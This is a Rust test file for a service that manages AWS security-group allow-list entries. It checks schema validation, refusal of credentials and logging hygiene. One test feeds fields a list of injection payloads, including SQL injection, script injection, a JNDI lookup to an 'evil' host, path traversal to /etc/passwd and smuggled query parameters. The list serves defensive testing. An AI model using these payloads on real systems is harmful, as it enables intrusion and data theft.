//! Arguments that do not fit, credentials where none belong, and hostile strings in every field.

use serde_json::{Value, json};

use crate::support::aws_double::AwsDouble;
use crate::support::{Stack, error_of};

fn add(change: impl Fn(&mut Value)) -> Value {
    let mut arguments =
        json!({"security_group": "staging-db", "address": "203.0.113.7", "port": "22", "reason": "ticket OPS-1"});
    change(&mut arguments);
    arguments
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_does_not_fit_the_schema_is_refused_before_the_core() {
    let aws = AwsDouble::start().await;
    let stack = Stack::start(&aws).await;
    for (arguments, reason, part) in [
        (add(|a| a["adress"] = "x".into()), "ARGUMENT_UNKNOWN", "did you mean `address`?"),
        (add(|a| a["securityGroup"] = "x".into()), "ARGUMENT_UNKNOWN", "did you mean `security_group`?"),
        (
            json!({"security_group": "staging-db", "cidr": "203.0.113.7", "port": 22, "reason": "x y z"}),
            "ARGUMENT_UNKNOWN",
            "`cidr`",
        ),
        (json!({"security_group": "staging-db", "port": 22, "address": "203.0.113.7"}), "ARGUMENT_MISSING", "`reason`"),
        (add(|a| a["addresses"] = json!("203.0.113.7")), "ARGUMENT_INVALID", "`addresses`"),
        (add(|a| a["addresses"] = json!([7])), "ARGUMENT_INVALID", "`addresses"),
        (add(|a| a["addresses"] = json!(vec!["203.0.113.7"; 21])), "ARGUMENT_INVALID", "may have 20"),
        (add(|a| a["address"] = Value::Null), "ARGUMENT_INVALID", "`address` must be a string"),
        (add(|a| a["address"] = json!(["203.0.113.7"])), "ARGUMENT_INVALID", "`address` must be a string"),
        (add(|a| a["address"] = "".into()), "ARGUMENT_INVALID", "at least 1"),
        (add(|a| a["address"] = "1".repeat(65).into()), "ARGUMENT_INVALID", "at most 64"),
        (add(|a| a["port"] = json!(22.5)), "ARGUMENT_INVALID", "`port`"),
        (add(|a| a["port"] = json!(true)), "ARGUMENT_INVALID", "`port`"),
        (add(|a| a["protocol"] = "sctp".into()), "ARGUMENT_INVALID", "tcp, udp, icmp, icmpv6"),
        (add(|a| a["dry_run"] = "true".into()), "ARGUMENT_INVALID", "true or false"),
        (add(|a| a["reason"] = "no".into()), "ARGUMENT_INVALID", "at least 3"),
    ] {
        let error = stack.refused("whitelist_add", arguments.clone()).await;
        assert_eq!(error["reason"], reason, "{arguments}: {error}");
        assert!(error["message"].as_str().is_some_and(|message| message.contains(part)), "{arguments}: {error}");
    }
    let twice = r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"whitelist_list","arguments":{"security_group":"a","security_group":"b"}}}"#;
    let answer = stack.post(Some(&stack.token()), &[], twice).await.json();
    assert_eq!(error_of(&answer["result"])["reason"], "ARGUMENTS_MALFORMED");
    let own = |entry: &Value| entry["type"] == "open" || entry["type"] == "head";
    assert!(stack.journal().iter().all(own), "nothing of this reached the core");
    assert!(aws.asked().is_empty());
    stack.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_fits_the_schema_and_means_nothing_is_refused_by_the_core() {
    let aws = AwsDouble::start().await;
    let stack = Stack::start(&aws).await;
    for (arguments, reason, field) in [
        (add(|a| a["address"] = "db.example.com".into()), "ADDRESS_INVALID", "address"),
        (add(|a| a["address"] = "::ffff:203.0.113.7".into()), "ADDRESS_INVALID", "address"),
        (add(|a| drop(a.as_object_mut().expect("an object").remove("address"))), "FIELD_MISSING", "address"),
        (
            add(|a| drop(a.as_object_mut().expect("an object").remove("security_group"))),
            "FIELD_MISSING",
            "security_group",
        ),
        (add(|a| a["addresses"] = json!(["203.0.113.8"])), "ONE_OR_MANY", "address"),
        (add(|a| a["plan_id"] = "plan-x".into()), "PLAN_INVALID", "plan_id"),
        (add(|a| a["plan_id"] = "plan-0123456789abcdef.0123456789abcdef".into()), "PLAN_INVALID", "plan_id"),
        (add(|a| a["duration"] = "400d".into()), "DURATION_INVALID", "duration"),
        (add(|a| a["port"] = "shh".into()), "PORT_INVALID", "port"),
        (add(|a| a["port"] = "90-10".into()), "PORT_INVALID", "port"),
        (add(|a| drop(a.as_object_mut().expect("an object").remove("port"))), "PORT_INVALID", "port"),
        (add(|a| a["protocol"] = "icmpv6".into()), "PROTOCOL_INVALID", "protocol"),
        (
            add(|a| {
                a["protocol"] = "icmpv6".into();
                a["port"] = "all".into();
            }),
            "PROTOCOL_INVALID",
            "protocol",
        ),
        (add(|a| a["duration"] = "soon".into()), "DURATION_INVALID", "duration"),
        (add(|a| a["until"] = "2020-01-01T00:00:00Z".into()), "DURATION_INVALID", "until"),
        (add(|a| a["account"] = "12".into()), "ACCOUNT_INVALID", "account"),
        (add(|a| a["region"] = "mars".into()), "REGION_INVALID", "region"),
        (add(|a| a["security_group"] = "sg-nothex".into()), "SECURITY_GROUP_INVALID", "security_group"),
        (add(|a| a["reason"] = "line\nbreak".into()), "CONTROL_CHARACTER", "reason"),
        (add(|a| a["reason"] = "key AKIAIOSFODNN7EXAMPLE here".into()), "CREDENTIALS_REFUSED", "reason"),
        (add(|a| a["reason"] = "xwJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE".into()), "CREDENTIALS_REFUSED", "reason"),
        (add(|a| a["security_group"] = "AKIAIOSFODNN7EXAMPLE".into()), "CREDENTIALS_REFUSED", "security_group"),
    ] {
        let error = stack.refused("whitelist_add", arguments.clone()).await;
        assert_eq!(
            (error["reason"].as_str(), error["code"].as_str()),
            (Some(reason), Some("INVALID_ARGUMENT")),
            "{arguments}: {error}"
        );
        assert!(error["fields"][field].is_string(), "{arguments}: {error}");
    }
    assert!(aws.asked().is_empty(), "AWS was asked for none of it");
    let refused =
        stack.journal_when(|entries| entries.iter().filter(|entry| entry["type"] == "refused").count() == 22).await;
    assert!(!format!("{refused:?}").contains("AKIAIOSFODNN7EXAMPLE"), "a key must not reach the journal");
    stack.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_are_refused_by_name_and_never_kept() {
    let aws = AwsDouble::start().await;
    let stack = Stack::start(&aws).await;
    for name in [
        "aws_access_key_id",
        "AWS_SECRET_ACCESS_KEY",
        "secretAccessKey",
        "session-token",
        "credentials",
        "access_key",
        "secret_key",
    ] {
        let result =
            stack.call("whitelist_list", json!({"security_group": "staging-db", name: "wJalrXUtnFEMI-not-real"})).await;
        let error = error_of(&result);
        assert_eq!(error["reason"], "ARGUMENT_REFUSED", "{name}: {error}");
        assert!(error["message"].as_str().is_some_and(|message| message.contains(name)), "{error}");
        assert!(!result.to_string().contains("wJalrXUtnFEMI"));
    }
    assert!(!format!("{:?}", stack.journal()).contains("wJalrXUtnFEMI"));
    stack.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_strings_harm_nothing() {
    let aws = AwsDouble::start().await;
    let stack = Stack::start(&aws).await;
    let hostile = [
        "'; DROP TABLE rules; --",
        "<script>alert(1)</script>",
        "\u{202e}gnp.exe",
        "${jndi:ldap://evil}",
        "%s%s%n",
        "../../etc/passwd",
        "😀☃️",
        "{\"type\":\"end\"}",
        "a=b&Action=DeleteSecurityGroup",
        "\u{0}nul",
        "\u{1b}[31mred",
    ];
    for field in ["security_group", "address", "port", "reason", "duration", "until", "account", "region"] {
        for text in hostile {
            let result = stack.call("whitelist_add", add(|a| a[field] = text.into())).await;
            let fine_as_a_reason = field == "reason" && !text.chars().any(|c| c.is_control() || c == '\u{202e}');
            assert_eq!(result["isError"] == false, fine_as_a_reason, "{field}: {text:?}: {result:#}");
        }
    }
    for (id, tags) in aws.tags() {
        let sound = |value: &str| value.chars().all(|c| c.is_alphanumeric() || " _.:/=+-@".contains(c));
        assert!(tags.values().all(|value| sound(value)), "{id}: {tags:?}");
    }
    let known = ["AssumeRole", "DescribeSecurityGroupRules", "AuthorizeSecurityGroupIngress"];
    assert!(aws.actions().iter().all(|action| known.contains(&action.as_str())), "{:?}", aws.actions());
    stack.stop().await;
}
